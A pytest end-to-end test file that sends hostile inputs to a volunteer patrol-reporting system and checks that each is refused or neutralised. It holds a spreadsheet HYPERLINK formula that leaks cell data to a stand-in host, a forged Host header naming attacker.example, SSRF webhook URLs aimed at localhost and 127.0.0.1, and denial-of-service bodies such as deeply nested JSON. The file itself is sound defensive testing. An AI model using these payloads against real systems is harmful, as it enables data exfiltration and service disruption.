"""The hostile inputs of issue 26, sent to the system as `make up` runs it: each gets the answer the issue asks
for, and none a 500."""
from __future__ import annotations

import io
import json
import uuid
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
import requests

from tests.conftest import bearer
from tests.e2e.conftest import running_system, system_env
from tests.e2e.test_system import jpeg_bytes
from tests.support import wait_for

pytestmark = pytest.mark.e2e
FORMULA = '=HYPERLINK("http://x/?"&A1,"点击查看")'
STRANGER = "stranger@example.org"


@pytest.fixture(scope="module")
def city(amqp_url, mongo_url, tmp_path_factory):
    """The running system, its URLs and its run folder (where its mail is written as .eml files)."""
    run_dir = tmp_path_factory.mktemp("run")
    env, urls = system_env(amqp_url, mongo_url, run_dir, "hostile")
    with running_system(env):
        yield urls, run_dir


def register(hours: str, name: str = "王小明") -> tuple[str, dict]:
    registered = requests.post(f"{hours}/v1/volunteers", headers=bearer("association"), timeout=10, json={
        "name": name, "phone": f"139{uuid.uuid4().int % 10**8:08d}", "organization": "金雀山街道志愿服务队",
        "grid_id": "lanshan-01"})
    assert registered.status_code == 201, registered.text
    return registered.json()["id"], bearer("volunteer", registered.json()["id"])


def report(intake: str, volunteer: dict, description: str) -> dict:
    photo = requests.post(f"{intake}/v1/photos", headers=volunteer, timeout=10,
                          files={"file": ("p.jpg", jpeg_bytes(), "image/jpeg")}).json()["id"]
    created = requests.post(f"{intake}/v1/reports", headers=volunteer, timeout=10, json={
        "category": "env.garbage", "description": description, "photo_ids": [photo],
        "location": {"lat": 35.060, "lng": 118.315}})
    assert created.status_code == 201, created.text
    return created.json()


def test_a_formula_in_a_report_reaches_the_weekly_spreadsheet_as_text(city):
    urls, _ = city
    _, volunteer = register(urls["hours"])
    report(urls["intake"], volunteer, FORMULA)
    week = datetime.now(UTC).strftime("%G-W%V")
    sheet = requests.get(f"{urls['intake']}/v1/grids/lanshan-01/weekly", timeout=30, headers=bearer("office"),
                         params={"week": week, "format": "xlsx"})
    assert sheet.status_code == 200, sheet.text[:300]
    with zipfile.ZipFile(io.BytesIO(sheet.content)) as workbook:
        xml = "".join(workbook.read(name).decode() for name in workbook.namelist() if name.startswith("xl/"))
    assert "<f>" not in xml and "<f " not in xml
    assert "HYPERLINK" in xml  # there, as text


def test_one_throwaway_report_credits_an_hour_not_a_working_day(city):
    urls, _ = city
    volunteer_id, volunteer = register(urls["hours"])
    submitted = report(urls["intake"], volunteer, "这里有垃圾")  # five characters: the shortest report
    at = datetime.fromisoformat(submitted["submitted_at"].replace("Z", "+00:00"))
    patrol = requests.post(f"{urls['hours']}/v1/patrols", headers=volunteer, timeout=10, json={
        "grid_id": "lanshan-01", "started_at": (at - timedelta(hours=7, minutes=58)).isoformat(),
        "ended_at": (at + timedelta(seconds=30)).isoformat()})
    assert patrol.status_code == 201, patrol.text

    def settled():
        found = requests.get(f"{urls['hours']}/v1/patrols/{patrol.json()['id']}", headers=volunteer, timeout=10).json()
        return found if found["credited_hours"] > 0 else None

    evidenced = wait_for(settled, what="the report evidencing the patrol")
    assert (evidenced["hours"], evidenced["credited_hours"], evidenced["waiting_hours"]) == (7.5, 1.0, 6.5)
    summary = requests.get(f"{urls['hours']}/v1/volunteers/{volunteer_id}/summary", headers=volunteer,
                           timeout=10).json()
    assert summary["year_hours"] == 1.0 and summary["pending_hours"] == 6.5


def test_a_volunteer_cannot_turn_notify_into_a_mail_relay(city):
    urls, run_dir = city
    volunteer_id, volunteer = register(urls["hours"])
    recipient = f"volunteer:{volunteer_id}"
    saved = requests.put(f"{urls['notify']}/v1/subscriptions/{recipient}", headers=volunteer, timeout=10,
                         json={"email": STRANGER})
    assert saved.status_code == 200, saved.text
    assert saved.json()["email_confirmed"] is False

    def mails_to_stranger() -> list[str]:
        mails = (path.read_text(errors="replace") for path in Path(run_dir, "mail").glob("*.eml"))
        return [mail for mail in mails if STRANGER in mail]

    wait_for(mails_to_stranger, what="the confirmation mail")
    report(urls["intake"], volunteer, "路口东北角垃圾堆放两天未清运，散发异味。")  # dispatched: a notice to them

    def held_notice_mail():
        deliveries = requests.get(f"{urls['notify']}/v1/deliveries", headers=bearer("office"), timeout=10,
                                  params={"recipient": recipient}).json()["items"]
        return [d for d in deliveries if d["channel"] == "email" and d["kind"].startswith("report.")]

    held = wait_for(held_notice_mail, what="the report's notice as a mail delivery")
    assert {d["status"] for d in held} == {"held"}
    to_stranger = mails_to_stranger()
    assert len(to_stranger) == 1, "the confirmation mail, and nothing else"
    assert "垃圾" not in to_stranger[0]


def test_a_volunteers_webhook_is_https_to_a_public_address_and_the_refusal_names_no_address(city):
    urls, _ = city
    volunteer_id, volunteer = register(urls["hours"])
    for url in ("http://hooks.example.org/x", "https://127.0.0.1:9/hook", "https://localhost/hook"):
        refused = requests.put(f"{urls['notify']}/v1/subscriptions/volunteer:{volunteer_id}", headers=volunteer,
                               timeout=10, json={"webhook_url": url})
        assert refused.status_code == 422, (url, refused.text)
        assert "127.0.0.1" not in refused.json()["detail"].replace(url, "")


@pytest.mark.parametrize("service, path", [("intake", "/v1/reports"), ("routing", "/v1/cases/x/accept"),
                                           ("hours", "/v1/patrols"), ("notify", "/v1/inbox/read-all")])
def test_json_nested_fifty_thousand_deep_is_a_400_everywhere(city, service, path):
    urls, _ = city
    answer = requests.post(f"{urls[service]}{path}", data="[" * 50_000 + "]" * 50_000, timeout=30,
                           headers={**bearer("volunteer"), "Content-Type": "application/json"})
    assert answer.status_code == 400, answer.text[:300]
    assert answer.headers["Content-Type"].startswith("application/problem+json")


@pytest.mark.parametrize("what, request_options, status, slug", [
    ("a query of 5,000 characters", {"params": {"year": ["2026"] * 800}}, 414, "uri-too-long"),
    ("a header of 9,000 characters", {"headers": {"X-Note": "a" * 9000}}, 431, "headers-too-large"),
    ("101 headers", {"headers": {f"X-Note-{n}": "a" for n in range(101)}}, 431, "headers-too-large"),
])
def test_what_the_web_server_refuses_before_the_service_is_problem_json_too(city, what, request_options, status,
                                                                           slug):
    """gunicorn's own limits answer before any view (schemathesis's stateful phase once met its HTML 414)."""
    urls, _ = city
    answer = requests.get(f"{urls['hours']}/v1/volunteers", timeout=10, **{
        **request_options, "headers": {**bearer("office"), **request_options.get("headers", {})}})
    assert answer.status_code == status, (what, answer.text[:300])
    assert answer.headers["Content-Type"] == "application/problem+json", what
    assert answer.json()["type"].endswith(f"/{slug}") and answer.json()["status"] == status


def test_seven_hundred_thousand_unknown_keys_are_a_413_not_seconds_of_work(city):
    urls, _ = city
    _, volunteer = register(urls["hours"])
    body = json.dumps({f"k{i}": 0 for i in range(700_000)})
    answer = requests.post(f"{urls['hours']}/v1/patrols", data=body, timeout=60,
                           headers={**volunteer, "Content-Type": "application/json"})
    assert answer.status_code == 413, answer.text[:300]
    assert len(answer.content) < 2_000


def test_a_patrol_in_year_one_is_a_422(city):
    urls, _ = city
    _, volunteer = register(urls["hours"])
    answer = requests.post(f"{urls['hours']}/v1/patrols", headers=volunteer, timeout=10, json={
        "grid_id": "lanshan-01", "started_at": "0001-01-01T00:00:00+01:00", "ended_at": "0001-01-01T02:00:00+01:00"})
    assert answer.status_code == 422, answer.text


def test_the_proof_links_to_the_configured_address_whatever_the_host_header(city):
    urls, _ = city
    volunteer_id, volunteer = register(urls["hours"])
    credited = requests.post(f"{urls['hours']}/v1/adjustments", headers=bearer("association"), timeout=10,
                             json={"volunteer_id": volunteer_id, "hours": 2, "reason": "补录纸质签到时长"})
    assert credited.status_code == 201, credited.text
    pdf = requests.get(f"{urls['hours']}/v1/volunteers/{volunteer_id}/proof", timeout=30,
                       headers={**volunteer, "Host": "proofs.attacker.example"})
    assert pdf.status_code == 200, pdf.text[:300]
    assert b"attacker" not in pdf.content


def test_smaller_holes_answer_4xx(city):
    urls, _ = city
    hours = urls["hours"]
    first, _ = register(hours)
    second, _ = register(hours, "李四")
    association, key = bearer("association"), str(uuid.uuid4())
    adjust = {"hours": 1, "reason": "补录纸质签到时长"}
    assert requests.post(f"{hours}/v1/adjustments", headers={**association, "Idempotency-Key": key}, timeout=10,
                         json={"volunteer_id": first, **adjust}).status_code == 201
    reused = requests.post(f"{hours}/v1/adjustments", headers={**association, "Idempotency-Key": key}, timeout=10,
                           json={"volunteer_id": second, **adjust})
    assert reused.status_code == 409, reused.text
    tiny = requests.post(f"{hours}/v1/adjustments", headers=association, timeout=10,
                         json={"volunteer_id": first, "hours": 0.004, "reason": "补录纸质签到时长"})
    assert tiny.status_code == 422, tiny.text
    seeded = requests.post(f"{hours}/v1/spot-checks", headers=bearer("office"), timeout=10,
                           json={"year": datetime.now(UTC).year, "size": 5, "seed": 42})
    assert seeded.status_code == 422, seeded.text
    forged_id = requests.get(f"{urls['intake']}/healthz", headers={"X-Request-Id": "a\tb" * 100}, timeout=10)
    assert forged_id.headers["X-Request-Id"] != "a\tb" * 100


def test_refusals_are_in_the_audit_log(city):
    urls, _ = city
    police = f"police-{uuid.uuid4().hex[:8]}"
    refused = requests.put(f"{urls['routing']}/v1/rules", timeout=10, json=[],
                           headers=bearer("department", police, dept="traffic-police"))
    assert refused.status_code == 403

    def entered():
        return requests.get(f"{urls['routing']}/v1/audit", headers=bearer("office"), params={"actor": police},
                            timeout=10).json()["items"]

    entries = wait_for(entered, what="the refusal in routing's audit log")
    assert [(e["action"], e["outcome"], e["status"]) for e in entries] == [("PUT /v1/rules", "refused", 403)]
